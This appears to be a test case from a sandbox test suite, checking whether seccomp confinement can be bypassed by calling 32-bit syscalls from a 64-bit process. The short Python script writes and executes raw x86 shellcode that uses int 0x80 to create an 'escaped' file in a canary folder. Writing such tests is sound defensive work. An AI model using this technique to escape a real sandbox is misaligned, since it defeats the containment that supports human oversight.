# S00: The system calls of a 32-bit program, made from a 64-bit one.
# aim: written
# sealed: seccomp
# confined: seccomp
# process: nothing
import ctypes
import mmap
import platform

if platform.machine() == "x86_64":
    page = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    path = (canary["folder"] + "/escaped").encode() + b"\0"
    page[4096 : 4096 + len(path)] = path
    # push rbx; mov eax, 8 (creat); mov ebx, path; mov ecx, 0600; int 0x80; pop rbx; ret
    page.write(b"\x53\xb8\x08\x00\x00\x00\xbb" + (address + 4096).to_bytes(4, "little") + b"\xb9\x80\x01\x00\x00\xcd\x80\x5b\xc3")
    print(ctypes.CFUNCTYPE(ctypes.c_long)(address)())
